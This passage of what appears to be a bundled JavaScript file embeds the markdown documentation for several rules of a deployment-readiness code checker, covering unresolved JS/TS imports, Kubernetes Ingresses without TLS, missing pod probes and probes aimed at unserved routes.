no timeout (requests has no default timeout and waits\n> for ever on a silent server; a heuristic reading of this call): one slow or silent dependency\n> holds this worker until the service runs out of them.\n\n## How to suppress\n\nAn inline `# readiness-gate-ignore http-call-without-timeout: reason` on the call\nline, or a configured suppression with a reason.\n";

// raw:rules/checks/js-unresolved-import.md
var js_unresolved_import_default = "# js-unresolved-import\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | build | 15 min | `src/checks/js-unresolved-import/` |\n\nA JavaScript or TypeScript import of a file that does not exist: the build fails\n(TS2307, a bundler error) or the module fails to load (`ERR_MODULE_NOT_FOUND`).\n\n## What is detected\n\nEvery `import ... from`, `export ... from`, `import x = require()`, `require()`\nand `import()` with a literal specifier, read from the syntax tree (tree-sitter),\nresolved over the repository's files (`src/analysis/js/project.ts`):\n\n- **Relative specifiers** (`./`, `../`) with Node's and TypeScript's completion:\n  the path itself, then `.ts .tsx .d.ts .mts .cts .js .jsx .mjs .cjs .json .node`,\n  then `index.*` or a `package.json` in the folder; `.js` written for a `.ts`\n  file (`.jsx`→`.tsx`, `.mjs`→`.mts`, `.cjs`→`.cts`), TypeScript's ESM convention.\n- **tsconfig/jsconfig `paths`** (and `baseUrl`), with `extends` chains inside the\n  repository; the configuration is the nearest `tsconfig*.json` / `jsconfig*.json`\n  above the file, with its sibling `tsconfig.*.json` (project references).\n  A specifier that matches a mapping whose targets all miss is a finding.\n- **Subpath imports** (`#db/pool`) of the nearest package.json with an `imports`\n  field: no matching entry, or an entry pointing at a missing file.\n\n```ts\nimport { b } from './b';                 // fine if b.ts, b.tsx, b/index.ts... exists\nimport { a } from './a.js';              // fine if a.ts exists\nimport { gone } from './renamed-away';   // P0\nimport { x } from '@api/missing';        // P0 when \"@api/*\": [\"./src/*\"] has no missing.ts\n```\n\n## When it is proven\n\nA finding is `proven` (P0) when all of these hold:\n\n- the import is relative (`./`, `../`), a `#` subpath import of a package.json `imports` field, or matches a specific (not catch-all `*`) tsconfig `paths` mapping; it is not guarded, not a URL, loader (`!`) or template (`${...}`) specifier, and its file is neither a `.d.ts` nor test data;\n- its target exists nowhere: no file with any extension (`.ts .tsx .d.ts .js .jsx .mjs .cjs .json`, `.ts` for `.js`) nor an index file, no target of the mapping, nothing under the tsconfig `baseUrl`, and (for a `paths` mapping) no alias of a bundler configuration of the package names it (webpack `resolve.alias`, Vite/Rollup `alias`, read as in [`undeclared-dependency`](undeclared-dependency.md));\n- no build step can create it: the target is not under a default build output (`dist/`, generated trees) nor a gitignored path;\n- the import loads values (not `import type`, not bindings used only as types), in a file a build includes.\n\nIt is `likely` (reported as P1, the gap named in the message) when:\n\n- only types are imported: \"an import of types only, erased at run time\";\n- the target is inside a git submodule (a gitlink in the index: another repository, whose files the scan never reads, checked out or not): \"the path is inside the git submodule `<path>`, another repository's files, which the scan does not read\";\n- a relative import whose last segment has no extension (`./partials/UserCard`) names a file that is there with an extension this does not resolve (`UserCard.vue`, `pages/index.svelte`): a bundler configured for it loads it (vue-loader adds `.vue` to webpack's `resolve.extensions`): \"`<file>` is there, with an extension this does not resolve: a bundler configured for it (vue-loader adds `.vue`, webpack `resolve.extensions`) loads it\";\n- a `paths` mapping misses and a bundler configuration of the package computes its aliases: \"the bundler config (<path>) may alias it\";\n- no tsconfig or bundler builds the importing file (excluded by its tsconfig, or a TypeScript file its tsconfig's `include` and `files` leave out, and imported by no built file; a solution's `references` say nothing here): \"no tsconfig or bundler builds this file\";\n- a TypeScript file whose tsconfig has an `outDir` loads, relatively, a file the compiler does not emit (`require('./catalog.json')`, `.node`, `.wasm`, assets): it runs from the compiled folder, where a build step may write that file (eclipse-theia/theia's core downloads `catalog.json` into `lib/browser` after install): \"the file runs compiled, from `lib/browser` (outDir of tsconfig.json), where a build step may write `./catalog.json`\";\n- nothing imports the file and no entry point names it: \"nothing imports this file and no entry point names it\". Imported means: some JS/TS file or Vue/Svelte component (`<script>` blocks are read) of the repository loads it through a relative, `paths`/`baseUrl` import (an importer that is itself unreachable still counts), or names its file in a string (`new Worker(new URL('./w.js', import.meta.url))`: a `./` path names the file beside the one that writes it, `a/w.js` a file whose path ends so), or a file loads modules by pattern (`import.meta.glob`, `require.context`) from a folder at or above it: the folders its patterns name when every pattern is a relative string literal (`import.meta.glob('../locales/*.json')` reaches `../locales`), else its own folder. Importers, namers and pattern loads count only in files a production process runs: when only tests, tooling, docs or examples load the file, the gap says so (\"only tests, tooling, docs or examples import this file or name it; no entry point names it\"). An entry names it when a package.json (`main`, `module`, `bin`, `exports`, `scripts`...), a bundler configuration (`vite`/`webpack`/`rollup`/`esbuild`/`rspack`/`tsup`... `.config.*`), an `index.html`, a Dockerfile `CMD`/`ENTRYPOINT`, a Procfile or a Phoenix `config/config.exs` in the file's folder or above mentions it (a tsconfig's `files` and `include` are what the compiler reads, not what runs: no entry): its basename with any JS extension, bare or under a build folder (`dist/server.js` names `src/server.ts`), or the end of its path (`assets/js/scoreboard.js` names that file, not another `scoreboard.js`). Only `runtime` files are judged so (tool configuration files and dotfiles are loaded by their tool), never in a package whose framework loads files by convention from folders a configuration may move or by name from anywhere (a dependency on `nuxt`, `@remix-run/*`, `@react-router/dev`, `@sveltejs/kit`, `astro`, `gatsby`, `expo-router`, `@tanstack/react-start`, `@docusaurus/core`) or that has `.astro` components, whose imports the model does not read; in a Next.js package (`next`), only outside what Next.js loads itself: its `app/` and `pages/` routers and its root files (`middleware`, `proxy`, `instrumentation`, `instrumentation-client`, `mdx-components`), at the package root or under `src/`. An `.mdx` document's ESM imports (lines starting with `import`/`export` outside code fences and front matter, to the next blank line) load files like any import; they are not judged themselves (the MDX toolchain decides how, and whether, a document is compiled).\n\nNot judged at all: a template a generator renders before it runs — a file with a line that is a `{% … %}` / `{%- … -%}` tag outside strings and comments, or an import whose module has a `{{ … }}` placeholder (`from polar.{{ version }}.client import Client`, `export * from './{{ version }}/client'`). JSX `style={{…}}`, f-strings and template literals are code.\n\n**Where the file lives** (the repository map's class of the importing file): P0 only in `runtime` code; at most P1 in `test`, `tooling`, `generated` and `vendored` code; at most P2 in `docs` and `example` code. The message then ends with the reason (\"(In test code or test data.)\").\n\n## Why it blocks\n\nThe module that imports the missing file cannot load, and neither can anything\nthat imports it: the service does not build or does not start.\n\n## How to fix\n\nPoint the import at the file that exists (renamed or moved?), add the missing\nfile, or fix the tsconfig `paths` / package.json `imports` entry.\n\n## Not detected (near-misses)\n\n| code | why it is not a finding |\n|---|---|\n| `try { require('./optional') } catch {}`, a `require` under `if` or `?:` | optional by design |\n| a target under `dist/`, `build/`, `node_modules/` or matched by `.gitignore` | produced by a build step |\n| `import 'lodash'` | a package: `undeclared-dependency` |\n| `import x from 'raw-loader!./x'`, `https://...`, `node:fs`, template specifiers with `${}` | loaders, URLs, built-ins, computed |\n| a miss through a catch-all `\"*\"` mapping | the fallback also covers packages |\n| a `#alias` when no package.json has an `imports` field | a bundler alias |\n| `.d.ts` files | declarations only |\n\nNot modelled: bundler aliases outside tsconfig (vite/webpack `resolve.alias`),\n`exports` of workspace packages, `moduleSuffixes`, `rootDirs`.\n\nA specifier with a trailing slash (`@/router/`, `./lib/`) names a folder and resolves to its index file.\nAn import of types only (`import type`, or bindings used only in type positions) is P1 when nothing\ntype-checks the file (no tsconfig.json above it, no `tsc`/`vue-tsc` script): esbuild, Vite and Babel\nerase it.\nAn import in a file that its tsconfig.json `exclude`s and that no built file imports (directly or\nthrough other such files) is P1: nothing compiles or bundles it today (a vendored, unused module).\n\n## Example finding\n\n> **P0 js-unresolved-import** `src/a.ts:2`\n> `./gone` does not resolve: there is no `src/gone` with any extension (.ts .tsx .d.ts .js .jsx\n> .mjs .cjs .json, `.ts` for `.js`) nor an index file in it. Loading this module fails\n> (ERR_MODULE_NOT_FOUND / TS2307).\n\n## How to suppress\n\nAn inline `// readiness-gate-ignore js-unresolved-import: reason` on the import\nline, or a configured suppression with a reason.\n";

// raw:rules/checks/k8s-ingress-without-tls.md
var k8s_ingress_without_tls_default = "# k8s-ingress-without-tls\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | security | 1 h | `src/checks/k8s-ingress-without-tls/` |\n\nA Kubernetes Ingress with rules and no TLS.\n\n## What is detected\n\nEvery YAML document of every manifest (multi-document files, `kind: List`, kustomize bases and overlays, Helm `templates/` with template actions neutralised) holding a `kind: Ingress` with `spec.rules` and no `spec.tls`. The finding points at the `rules:` line. In a Helm template, a `tls:` block present in the template (usually behind `{{- if .Values.ingress.tls }}`) counts as TLS offered.\n\nYAML anchors, aliases and merge keys are expanded first, as Kubernetes reads them: an Ingress whose `spec: *spec`, `rules: *rules` or `<<: *defaults` brings rules without TLS is judged like a plain one, and the finding points where the alias is used.\n\nThe check fills the **TLS** gap row (`present`, `partial`, `missing`, `n/a` without Ingress).\n\n## When it is proven\n\nA finding is `proven` (P0) when a Kubernetes `Ingress` (plain manifest, Helm template or kustomize base) has rules but neither `spec.tls` (a Helm template offering a `tls:` block counts) nor an annotation by which a cloud load balancer terminates TLS (ALB certificate ARN, GKE managed certificates...). Development paths are skipped.\n\n- **Likely** (P1): an Ingress of an API version Kubernetes removed (`extensions/v1beta1` or `networking.k8s.io/v1beta1`, removed in 1.22) cannot be applied to a current cluster as written, so it proves no exposure; the gap says so. A Helm template that writes `apiVersion:` once per branch (picked by the cluster's capabilities) is judged as usual.\n- **Likely** (P1): every host of its rules is served with TLS by another Ingress of the repository (a host its `spec.tls` lists, or one of its rules' hosts when it lists none; the same host name; a templated host only by an Ingress of the same template file, since templates are not rendered): the pair an HTTP-to-HTTPS redirect takes on controllers that give each listener its own Ingress (Azure's Application Gateway for Containers with a redirect `IngressExtension`, exceptionless's `api.yaml`). Whether this one only redirects is the controller's configuration, which is not read; the gap names the other Ingress. A host no other Ingress serves with TLS keeps it proven. Likewise when every host of a Helm template is written exactly as in another template of the same chart whose Ingress has TLS for hosts its values fill in (`- host: {{ .host | quote }}` in a `range` over the same values, ministryofjustice/laa-submit-crime-forms's `public-ingress.yaml` beside `ingress.yaml`): they may be the same hosts, which a controller that applies TLS per host (ingress-nginx) serves with TLS. Two different expressions (`.Values.host`, `.Values.other`) keep it proven.\n- **Likely** (P1): every host of its rules is a name only the machine or a private network resolves (`localhost`, `*.localhost`, loopback addresses, `.local`, `.internal`, `.home.arpa`, `.test`, `.invalid`, `.localdomain`, `*.127.0.0.1.nip.io`), written in the manifest or, in a Helm template, resolved from the chart's `values.yaml` and from every values file it deploys with (`values-prod.yaml`; not those for CI, tests or local development): eShopOnDapr's `host: {{ .Values.hostName }}` with `hostName: localhost`. Nothing then shows clear text crossing a network; the gap names the hosts, and says that an install giving a public name needs TLS. A rule without a host (every name), one public host, or a value no values file gives keeps it proven.\n- **Where the file lives** (the repository map's class): a manifest in `test`, `docs` or `example` files is not the deployment, so such a finding is at most P2, and its message ends with the reason.\n\n## Why it matters\n\nThe hosts are served over plain HTTP: credentials, session cookies and personal data cross the network in clear text, and browsers flag the site.\n\n## How to fix\n\n```yaml\nmetadata:\n  annotations:\n    cert-manager.io/cluster-issuer: letsencrypt\nspec:\n  tls:\n    - hosts: [shop.example.com]\n      secretName: shop-tls\n```\n\n## Not detected (near-misses)\n\n- TLS terminated by the cloud load balancer, as an annotation says: `alb.ingress.kubernetes.io/certificate-arn`, `networking.gke.io/managed-certificates`, `ingress.gcp.kubernetes.io/pre-shared-cert`, `appgw.ingress.kubernetes.io/appgw-ssl-certificate`.\n- An Ingress without rules (default backend only).\n- Manifests under tests, fixtures, examples, docs, `hack/` and development overlays (`overlays/dev`, `local`, `kind`, `minikube`), and manifests named for a local cluster (`java25-minikube.yml`, `k3d.yaml`, `app.docker-desktop.yaml`, `microk8s-…`).\n- Gateway API `HTTPRoute`/`Gateway`, Traefik `IngressRoute`, Istio `Gateway` (not read yet).\n\n## Example findings\n\n> **P0 k8s-ingress-without-tls** `k8s/deployment.yaml:32`\n> Ingress `shop-api` serves `shop.example.com` without TLS (no `spec.tls`): traffic, credentials and cookies cross the network in clear text.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore k8s-ingress-without-tls: <why this is safe>`; or in the configuration file, with a reason: `{ rule: k8s-ingress-without-tls, path: \"...\", reason: \"...\" }`; or turn the rule off: `rules: { k8s-ingress-without-tls: off }`.\n";

// raw:rules/checks/k8s-missing-probes.md
var k8s_missing_probes_default = '# k8s-missing-probes\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | deploy | 30 min | `src/checks/k8s-missing-probes/` |\n\nA Deployment, StatefulSet or DaemonSet container without a readiness or a liveness probe.\n\n## What is detected\n\nEach container (not init containers) of every Deployment/StatefulSet/DaemonSet in the manifests (multi-document, Lists, kustomize, Helm templates) that lacks `readinessProbe`, `livenessProbe`, or both; probes of any type (httpGet, tcpSocket, exec, grpc) count. The finding points at the container\'s `- name:` line and names what is missing.\n\nIn Helm templates a probe key behind `{{- if }}`/`{{- with }}`/`{{- range }}`, or filled by `toYaml`, is judged with the chart\'s **default values** (its `values.yaml`; a subchart\'s merged with its parent\'s `<sub>:` section and `global:`), as `helm install` renders it:\n\n- the blocks around the probe key but not around its container are followed (`if`, `else if`, `else`, `with`, `range`, nested); a condition is read when it is one values path (`.Values.a.b`, `$.Values.a.b`, `.enabled` inside `with .Values.a`), `not` one, or an `and` of such; anything else (`or`, `eq`, `default`, variables, deeper than 64 blocks) is unknown;\n- when one read condition is false with the defaults (missing, null, `{}`, `[]`, `false`, `0`, `""`), or the probe is `toYaml` of a value the defaults leave missing or null, the chart renders no such probe: the container is reported, and the message says which value ("has no readinessProbe: the chart\'s default values.yaml leaves `apiServer.readinessProbe` empty, so the chart renders none");\n- unless another values file of the chart (`values-prod.yaml`, `values.dev.yaml`, `ci/*-values.yaml`, merged over the defaults) makes it render: the repository deploys with it somewhere;\n- a probe key whose value is rendered with `nindent` and whose handler is written under it (`livenessProbe: {{- include "common.render" … | nindent 12 }}` then `httpGet:`) is read as that probe;\n- an unknown condition alone decides nothing (the probe counts), and neither does a chart without a readable `values.yaml`; a key written in two branches (`if .Values.customLivenessProbe` … `else if .Values.livenessProbe.enabled`) is absent only when no branch renders.\n\nA container that the chart renders only under read conditions around the container itself (`{{- if .Values.configmapReload.enabled }}` before `- name: configmap-reload`) that the defaults leave false, and that no other values file of the chart makes true, is not deployed by `helm install` as it is: its finding is **likely**, the condition named (gap: *"the chart renders this container only when `configmapReload.enabled`, and its default values.yaml sets `configmapReload.enabled` to false"*).\n\nSuch a finding is `proven`: the chart\'s defaults are what `helm install` deploys, and the message says that it is about them. Values given at install time (`-f`, `--set`, an Argo CD or Flux values file elsewhere) may add the probe; the rule is P1 either way.\n\nA container whose first line is written once per branch of an `if`/`else if`/`else` chain (`- image: "{{ .Values.global.imageRegistry }}/…"` / `- image: "{{ .Values.image.repository }}@…"`, nested chains included), with its other keys after the `{{- end }}`, is one container (only one branch renders): its probes are the keys after the `end` plus those of each branch (a branch\'s probe keeps that branch\'s condition), and a finding points at the first of those lines. Its image is the one of the branch taken when every condition of the chain is unset (`else`: no registry override, no digest). Branches that each hold a whole container (nothing of it after the `end`) stay separate containers, each judged.\n\nA container named by a template (`name: {{ .Chart.Name }}`) is judged and shown as `{{…}}`. A template line that renders something (`include`, `toYaml`, `tpl`, `. | nindent`, `$var | nindent`; not `if`/`with`/`range`/`end` or an assignment such as `{{- $m := include … }}`) hides the container\'s probes only when it renders at the container\'s own key level (the column of its `image:`; `nindent N` gives that column): output deeper in the container (under `resources:`, `env:`, `securityContext:`) or at pod level (`affinity`, `tolerations` after the last container) does not. When every such key-level line renders only named templates (`include "app.volumeMounts" …`, or a `$var` or `with include` holding one), their definitions in the chart\'s `templates/*.tpl` are read: if none of them, nor any template they include, mentions a probe, uses `tpl` or includes a computed name, the container is judged, as **likely** (the gap names the templates: their text was read, not rendered). Likewise a key-level `toYaml .Values.x` (or `toYaml .` inside `with .Values.x`): only a map can render keys, so when no values file of the chart gives a map with a probe key there (`extraEnvs: []`), the container is judged, as likely.\n\nA workload of an API version Kubernetes removed (`extensions/v1beta1`, `apps/v1beta1` or `apps/v1beta2` Deployment, DaemonSet, StatefulSet; removed in 1.16) cannot be applied to a current cluster as written: its finding is **likely**, the gap naming the version, unless another copy of the container (below) uses a current one.\n\nCopies of one container are reported once: the same container in raw manifests, a kustomize base and a Helm chart (same kind, workload name and container name; a copy whose names are templates matches by its image repository, resolved from the chart\'s `values.yaml`, when exactly one named workload has that image). The finding goes to a plain manifest before a kustomize overlay before a Helm template, then in path order; the other copies are its related locations (SARIF `relatedLocations`, `related` in the JSON report), and the message counts them ("the same container is also defined in 2 other files").\n\n## Why it matters\n\nWithout readiness, traffic reaches pods that are still starting, and every rollout drops requests. Without liveness, a deadlocked process is never restarted.\n\n## How to fix\n\n```yaml\nreadinessProbe:\n  httpGet: { path: /readyz, port: 8080 }\n  periodSeconds: 5\nlivenessProbe:\n  httpGet: { path: /livez, port: 8080 }\n  initialDelaySeconds: 10\n```\n\n## Not detected (near-misses)\n\n- Kustomize patches: files listed under `patches`, `patchesStrategicMerge` or `patchesJson6902` of a kustomization (even with a selector and containers), and partial documents (no `spec.selector`, or no `containers`): the base is judged.\n- A chart probe whose conditions cannot be read (`or`, `eq`, functions, variables), or whose chart has no readable `values.yaml`; a subchart\'s values set by its parent under an alias (Chart.yaml aliases are not read); values files outside the chart folder.\n- Helm containers with a line at their own key level that renders values or other text (`toYaml .Values.extra`), or a named template that mentions a probe, uses `tpl`, or is not in the repository (a packaged dependency); containers that come entirely from a user-supplied list (`{{- toYaml .Values.sidecars }}`, `extraContainers`), which are not parsed as containers.\n- Jobs, CronJobs, Pods.\n- Manifests under tests, fixtures, examples, docs, `hack/` and development overlays (`overlays/dev`, `local`, `kind`, `minikube`), and manifests named for a local cluster (`java25-minikube.yml`, `k3d.yaml`, `app.docker-desktop.yaml`).\n\n## Example findings\n\n> **P1 k8s-missing-probes** `k8s/base/deployment.yaml:13`\n> Container `orders-api` of Deployment `orders-api` has no livenessProbe: a hung process is never restarted.\n\n> **P1 k8s-missing-probes** `charts/api/templates/deployment.yaml:31`\n> Container `api-server` of Deployment `{{…}}` has no readinessProbe: the chart\'s default values.yaml leaves `apiServer.readinessProbe` empty, so the chart renders none; traffic reaches it before it is ready, and during every rollout.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore k8s-missing-probes: <why this is safe>`; or in the configuration file, with a reason: `{ rule: k8s-missing-probes, path: "...", reason: "..." }`; or turn the rule off: `rules: { k8s-missing-probes: off }`.\n';

// raw:rules/checks/k8s-probe-route-mismatch.md
var k8s_probe_route_mismatch_default = "# k8s-probe-route-mismatch\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | deploy | 1 h | `src/checks/k8s-probe-route-mismatch/` |\n\nA health probe aimed at a path the service's code does not serve.\n\n## What is detected\n\nHTTP probes — Kubernetes `readinessProbe`/`livenessProbe`/`startupProbe` `httpGet.path` (and `exec` probes that call the container's own URL with a client that fails on an HTTP error: `curl -f http://localhost:8080/health`, wget) (Helm `{{ .Values.x }}`, also with `quote`, `default` or `required \"msg\"`, resolved from the chart's `values.yaml`; a probe filled by `toYaml .Values.p`, or by `toYaml .` inside `with .Values.p`, takes its `httpGet` path and port from that map of `values.yaml`, and is reported at its probe key), Dockerfile `HEALTHCHECK` URLs, compose `healthcheck` URLs, the health checks of platform descriptors (below) — compared with the HTTP route model of the service's code, built from tree-sitter syntax trees:\n\n- Python: FastAPI (decorators, `APIRouter(prefix=)`, `include_router(prefix=)` across modules), Starlette `Route`/`Mount`, Flask (blueprints, `url_prefix`, `register_blueprint`), Django `urlpatterns` with `include()`.\n- JS/TS: Express/Koa/Hono/Fastify (routers, `app.use('/prefix', router)` across files, `register(plugin, { prefix })`), NestJS (`@Controller` + `@Get`, `setGlobalPrefix`).\n- Go: net/http (`\"GET /path\"` patterns), gin/echo/fiber groups, chi `Route` closures, gorilla `PathPrefix().Subrouter()`.\n- Java: Spring `@RequestMapping` + `@GetMapping`... under the context path of `src/main/resources/application.properties` or `application.yml`; Spring Boot Actuator's `/actuator/health/**`, or `<base>/health/**` when `management.endpoints.web.base-path` moves it; when `management.server.*` (a port or base path of its own) or `management.endpoints.web.path-mapping` moves it, its paths are unknown and no probe of that service is proven unserved.\n- C#, Ruby, PHP: ASP.NET Core, Rails, Laravel and Symfony (see no-health-endpoint, \"Stacks read\"); ASP.NET Core routes match case-insensitively. Symfony's YAML routing files are read as routes (a `home: path: /` redirect serves a `curl -f` of `/`), and a Symfony routing source the model does not read (a bundle's routes, a PHP/XML routing file, a Kernel's `configureRoutes`) makes a finding likely.\n\nRoute parameters match (`/users/:id`, `{id}`, `<int:id>`), trailing slashes are ignored (3xx redirects count as success for kubelet). A route whose prefix chain cannot be followed to the app is matched by its tail.\n\n**Who answers the probe** (the service map, `src/analysis/service-map/`). A probe is judged against the process in its own container, on the port it targets:\n\n1. the workload and its container; a probe on a port another container of the pod declares (`containerPort`) is that container's (they share one network namespace): an nginx sidecar on port 80 answers a probe on port 80;\n2. the container's image (Helm `image.repository`/`registry` resolved from the chart's `values.yaml`; the tag does not matter);\n3. where the repository builds that image: a build whose tag names it (tags compared without tag or digest; `${{ … }}`, `$(VAR)`, `$VAR` segments match any one segment, the image's own name must be literal) in compose (`image:` + `build:`), skaffold artifacts, Tiltfile `docker_build`, CI configurations (`docker build -f … -t …` commands, `docker/build-push-action` with `context`/`file`/`tags`, or the `images` of a `docker/metadata-action` in the same job; Google Cloud Build steps of the `gcr.io/cloud-builders/docker` or `docker` image, whose `args` are docker's words, and kaniko steps with `--destination`/`--dockerfile`/`--context`, run in the step's `dir` under /workspace, read both as the repository root (a trigger) and as the configuration's folder (`gcloud builds submit` there): the Dockerfile that exists is the build's), Makefiles, shell scripts and package.json scripts; a compose healthcheck's own `build:`, a Dockerfile's own `HEALTHCHECK`;\n4. the Dockerfile's final command (`ENTRYPOINT` + `CMD`, or the container's `command`) and the code the image ships (`COPY`/`ADD` sources of the stages that reach the final one, from the build context): the service whose code the command starts (`uvicorn app.main:app`, `node server.js`), else the one service the image ships;\n5. the ports that process listens on: `EXPOSE`, `ENV PORT`, `--port`/`-p`/`--bind`/`--urls` of the command, else the default of the server it starts (uvicorn, gunicorn, hypercorn 8000; `next start` and `rails server` 3000; `flask run` 5000; `artisan serve` 8000); the ports its code writes (`app.listen(process.env.PORT || 3000)`, `listen({ port: 8080 })`, `uvicorn.run(app, port=8000)`, `r.Run(\":8081\")`, Spring's `server.port`, else 8080); the container's declared ports;\n6. the routes of that service (the route model, below).\n\nThe message names that chain: \"Deployment `api` → image `ghcr.io/acme/api` built from services/api/Dockerfile → `uvicorn app.main:app --port 8000` on 8000 → routes of services/api → serves `/health`\". A container whose image is not built here (third-party images, sidecars) is judged only by its configuration in the repository: an nginx image (or an image built `FROM nginx`) by the `location` blocks of its configuration (a ConfigMap in the same manifest or chart, or the `.conf` the image ships); anything else is not judged. A probe whose chain cannot be followed (image not built here and not tied to one Dockerfile by name, no service with read routes in the image, several services shipped) is not reported.\n\n**Platforms** (`src/analysis/service-map/platforms.ts`). The HTTP health checks that platform descriptors declare are judged the same way:\n\n- Fly `fly.toml` (and `fly.<env>.toml`): `[[http_service.checks]]`, `[[services.http_checks]]` and `[checks.x]` with `type = \"http\"`, on `internal_port` (or the check's `port`); built from `[build] dockerfile`, else `Dockerfile` beside fly.toml; `[build] image` is an image like a container's; `[build] builder`/`buildpacks` run the folder's code; a `[processes]` group's command replaces the image's.\n- Render `render.yaml`: `healthCheckPath` of `type: web` services; `runtime: docker` builds `dockerfilePath` from `dockerContext` (both relative to `rootDir`), `runtime: image` runs `image.url`, a native runtime (node, python, …) runs `startCommand` in `rootDir`; the port is the `PORT` Render injects (10000, or `envVars` `PORT`).\n- Railway `railway.json` / `railway.toml`: `deploy.healthcheckPath`; `build.dockerfilePath` (or builder `DOCKERFILE`) builds that Dockerfile; without a builder, the `Dockerfile` beside the file if there is one, else (Nixpacks, Railpack) `deploy.startCommand` runs the folder's code; the port is the injected `PORT`.\n- App Engine flexible `app.yaml` (`env: flex`): `liveness_check.path` and `readiness_check.path`, on the injected port 8080; `runtime: custom` builds the folder's Dockerfile, another runtime runs `entrypoint` in the folder. The standard environment has no HTTP health check; an `app.yaml` without a top-level `runtime` is read as a Kubernetes manifest.\n- Cloud Run `service.yaml` (Knative `serving.knative.dev/v1` `Service`): its containers' `livenessProbe`/`startupProbe`/`readinessProbe` like a Deployment's; a probe without `port` calls the container's `containerPort` (8080 by default), which Cloud Run passes as `PORT`.\n- Heroku has no HTTP health check (Procfile, `app.json`): nothing to judge.\n\nCode run by a native runtime or builder is the route service rooted at that folder, else the one service inside it (\"Render service `api` runs `npm start` in services/api → routes of services/api\"); a folder holding none or several is not judged, and so is a Dockerfile that does not exist or an image no build here tags. A port the platform injects as `PORT` is the process's port; Fly's `internal_port` is tied only by `EXPOSE`/`--port` or `[env] PORT`. Malformed descriptors are listed as malformed files.\n\nIt reports only when the route model is **confident** for that service: routes were found, no catch-all route, no health library with configurable paths, and the probe path is not written anywhere in that service's code. The check fills the **probes** gap row.\n\n## When it is proven\n\nA finding is `proven` (P0) when all of these hold:\n\n- the probe is an HTTP probe (Kubernetes readiness/liveness/startup probe of a Deployment, StatefulSet, DaemonSet or Knative Service, a Dockerfile `HEALTHCHECK` URL, a compose healthcheck URL, a platform descriptor's health check) and its path can be resolved (Helm values included; a `HEALTHCHECK` path's `$X`, `${X}` and `${X:-default}` from the Dockerfile's `ENV`/`ARG` or the default written: a variable neither sets is set where the container runs, and the probe is not judged, recorded in `metrics.probes`);\n- every link of the chain above was read: the image is tied to a Dockerfile by a build the repository declares (not by a folder name), the container's `command` (if any) runs what the image's command runs, and the image's command or shipped code names one service;\n- the route model is confident for that service: routes were found, none is a catch-all, and no health library with configurable paths is used;\n- the service's routing is fully read: file-based routes of Next.js, React Router 7 / Remix, SvelteKit, Nuxt, Astro and SolidStart are read from the tree (see no-health-endpoint), and no file may answer any path before them (Next.js `middleware`, the SvelteKit `handle` hook, Nuxt server middleware, a Remix/React Router `entry.server`, Astro/SolidStart middleware) nor is a React Router `app/routes.ts` left unread;\n- a `HEALTHCHECK` or compose healthcheck command fails when the server answers 404: curl with `-f`/`--fail`/`--fail-with-body` (or piped into grep), wget, Python's `urlopen`; a plain `curl` exits 0 on a 404, so such a check passes whatever the path and is not judged (recorded in `metrics.probes`);\n- the probe's port is tied to the port the service listens on: a k8s port **name** (resolved in the container's own ports), or a number that the container declares (`containerPort`, compose `ports`/`expose`) or the process listens on (step 5 above; a `HEALTHCHECK` URL without a port uses the scheme's default, `$PORT` is read from `ENV`/`ARG`);\n- no route of the service serves the path, and the path is not written anywhere in the service's code.\n\n**Likely** (reported as P1, the gap named, the first missing link): \"no build in the repository tags `ghcr.io/acme/api` (tied to api/Dockerfile by its folder name only)\", \"the container's command (`celery -A tasks worker`) replaces the image's; which code it runs was not traced\", \"the image ships the code of 2 services; which one its command runs was not traced\", for an nginx: \"which configuration the nginx container loads was not traced through its volumes\" (a sidecar's ConfigMap) or \"… includes files that were not read\"; \"Next.js middleware (`<file>`) may answer or rewrite any path\" (or another router's middleware-like file), \"the probe's port (9090) is not tied to a port the service listens on (no containerPort, EXPOSE, --port or compose port declares it)\" (a sidecar or a management server may serve it). A probe whose service or routes cannot be read at all is not reported.\n\n**Removed API version** (likely, P1): a probe of a workload whose apiVersion Kubernetes removed (`extensions/v1beta1`, `apps/v1beta1`, `apps/v1beta2` Deployment/DaemonSet/StatefulSet, removed in 1.16) cannot be applied to a current cluster as written; the gap says so. Proven as usual when another copy of the workload uses a current version.\n\n**Where the file lives** (the repository map's class): a manifest in `test`, `docs` or `example` files is not the deployment, so such a finding is at most P2, and its message ends with the reason.\n\n**Port of an nginx** (likely, P1): a probe on a port the nginx configuration that answers it does not `listen` on (a compose healthcheck on `:80` of an nginx configured for 8080): the connection is refused whatever the path. Not proven, because the base image's own server blocks (nginx's `conf.d/default.conf` listens on 80) may still be loaded.\n\n## Why it matters\n\nThe platform probes a path that answers 404: pods never become ready, or are restarted in a loop; the release never becomes available, or the old version keeps serving while the deploy \"succeeds\".\n\n## How to fix\n\nPoint the probe at a route the service serves (check router prefixes), or add the route; verify with `curl -i http://localhost:<port><path>` against a running container.\n\n## Not detected (near-misses)\n\n- Probes of third-party images (redis, postgres, prometheus, envoy, mesh proxies...) other than nginx with its configuration in the repository, and of containers whose chain breaks (an image no build tags and no single Dockerfile folder is named like; an image that ships no service whose routes were read: a Go binary whose routes use a prefix variable, a Rust service).\n- Services whose routes cannot be read (no supported framework, dynamic registration, catch-all routes, health libraries with configurable paths).\n- Helm values that are not simple paths in `values.yaml`; a values-filled probe whose map holds no `httpGet`, or a template string.\n- A chart probe the chart's default values do not render (under `if`/`with` on a value that is false or empty in `values.yaml`): nothing is deployed to judge (k8s-missing-probes reports the container).\n- A port the code computes (`app.listen(port)` with `port` read from configuration) ties nothing: a probe tied by nothing else is only likely.\n- Next.js `basePath` and `rewrites` in `next.config.*` are not read.\n\n## Example findings\n\n> **P0 k8s-probe-route-mismatch** `k8s/deployment.yaml:24`\n> The livenessProbe of container `shop-api` (Deployment `shop-api`) expects `/api/v1/health/live`, but the code that answers it does not serve it: Deployment `shop-api` → image `ghcr.io/acme/shop-api` built from Dockerfile → `uvicorn app.main:app --host 0.0.0.0 --port 8080` on 8080 → routes of the repository root → serves `/health`. The platform will get 404 on every probe and keep the pods unready or restart them.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore k8s-probe-route-mismatch: <why this is safe>`; or in the configuration file, with a reason: `{ rule: k8s-probe-route-mismatch, path: \"...\", reason: 